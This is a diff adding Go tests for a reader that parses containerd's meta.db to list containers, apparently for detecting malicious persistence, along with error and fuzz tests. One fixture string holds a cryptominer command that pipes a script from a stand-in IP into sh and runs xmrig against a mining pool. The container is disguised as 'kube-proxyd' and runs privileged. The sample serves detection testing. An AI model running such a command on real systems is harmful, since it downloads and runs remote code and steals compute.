@@ -1,0 +1,124 @@
+package persist
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/abusekit/abusekit/plugins/persist/hosttest"
+	"github.com/google/go-cmp/cmp"
+)
+
+func writeMetaDB(t *testing.T, data string) string {
+	t.Helper()
+	name := filepath.Join(t.TempDir(), "meta.db")
+	if err := os.WriteFile(name, []byte(data), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return name
+}
+
+// The reader finds every container of every namespace in a real bbolt
+// meta.db, with its image, runtime, labels and the process of its spec.
+func TestReadContainerdDB(t *testing.T) {
+	data, err := hosttest.ContainerdDB(hosttest.ContainerdContainers())
+	if err != nil {
+		t.Fatal(err)
+	}
+	cs, err := readContainerdFile(context.Background(), writeMetaDB(t, data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	type got struct {
+		NS, ID, Image, Runtime, SpecType, Status, Policy, Name, Command string
+		HostRoot, Privileged                                            bool
+	}
+	var all []got
+	for _, c := range cs {
+		p, err := parseOCISpec(c.Spec)
+		if err != nil {
+			t.Fatalf("%s: %v", c.ID, err)
+		}
+		all = append(all, got{c.Namespace, shortID(c.ID), c.Image, c.Runtime, c.SpecType, c.Labels[labelRestartStatus], c.Labels[labelRestartPolicy], c.Labels[labelNerdctlName], p.Command, p.HostRoot, p.Privileged})
+	}
+	const spec = "types.containerd.io/opencontainers/runtime-spec/1/Spec"
+	const rt = "io.containerd.runc.v2"
+	miner := `/bin/sh -c 'apk add --no-cache curl; curl -sL http://203.0.113.7/xm.sh | sh; /tmp/xmrig -o stratum+tcp://203.0.113.7:3333 --donate-level 1'`
+	want := []got{
+		{"default", "3a7d9e1f2b4c", "docker.io/library/nginx:1.27", rt, spec, "running", "unless-stopped", "web", `/docker-entrypoint.sh nginx -g 'daemon off;'`, false, false},
+		{"default", "9c4e1f2a7b3d", "docker.io/alpineos/dockerapi:latest", rt, spec, "running", "always", "kube-proxyd", miner, true, true},
+		{"default", "e7f8091a2b3c", "docker.io/alpineos/dockerapi:latest", rt, spec, "stopped", "always", "old", miner, false, false},
+		{"k8s.io", "b1c2d3e4f506", "registry.k8s.io/pause:3.9", rt, spec, "", "", "", "/pause", false, false},
+	}
+	if diff := cmp.Diff(want, all); diff != "" {
+		t.Errorf("containers (-want +got):\n%s", diff)
+	}
+}
+
+// A damaged meta.db is a clear error, never a panic: garbage, a file cut
+// short, a page overwritten, a spec that is not a protobuf Any.
+func TestReadContainerdDBBad(t *testing.T) {
+	data, err := hosttest.ContainerdDB(hosttest.ContainerdContainers())
+	if err != nil {
+		t.Fatal(err)
+	}
+	smashed := []byte(data)
+	for i := 2 * 4096; i < len(smashed) && i < 5*4096; i++ {
+		smashed[i] = 0xff
+	}
+	badSpec, err := hosttest.ContainerdDB([]hosttest.CtrdContainer{{Namespace: "default", ID: hosttest.CtrdMinerID, Spec: []byte{0x0a, 0xff, 0xff}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, d := range map[string]string{
+		"empty":    "",
+		"garbage":  "not a bolt file at all, just text\n",
+		"cut":      data[:len(data)/2],
+		"smashed":  string(smashed),
+		"bad spec": badSpec,
+	} {
+		t.Run(name, func(t *testing.T) {
+			_, err := readContainerdFile(context.Background(), writeMetaDB(t, d))
+			if !errors.Is(err, ErrContainerdDB) {
+				t.Errorf("err = %v, want ErrContainerdDB", err)
+			}
+		})
+	}
+}
+
+func FuzzDecodeAny(f *testing.F) {
+	f.Add(hosttest.ContainerdSpecAny([]byte(`{"process":{"args":["/bin/sh"]}}`)))
+	f.Add([]byte{0x0a, 0x01})
+	f.Fuzz(func(t *testing.T, b []byte) {
+		typ, val, err := decodeAny(b)
+		if err != nil {
+			return
+		}
+		if len(typ)+len(val) > len(b) {
+			t.Fatalf("decoded more than the input: %d+%d > %d", len(typ), len(val), len(b))
+		}
+		_, _ = parseOCISpec(val)
+	})
+}
+
+// FuzzReadContainerdFile feeds bytes to bbolt through the reader: an
+// error or a result, never a panic or a hang.
+func FuzzReadContainerdFile(f *testing.F) {
+	data, err := hosttest.ContainerdDB(hosttest.ContainerdContainers()[:1])
+	if err != nil {
+		f.Fatal(err)
+	}
+	f.Add([]byte(data))
+	f.Add([]byte("garbage"))
+	f.Fuzz(func(t *testing.T, b []byte) {
+		name := filepath.Join(t.TempDir(), "meta.db")
+		if err := os.WriteFile(name, b, 0o600); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := readContainerdFile(context.Background(), name); err != nil && !errors.Is(err, ErrContainerdDB) {
+			t.Fatalf("error without ErrContainerdDB: %v", err)
+		}
+	})
+}
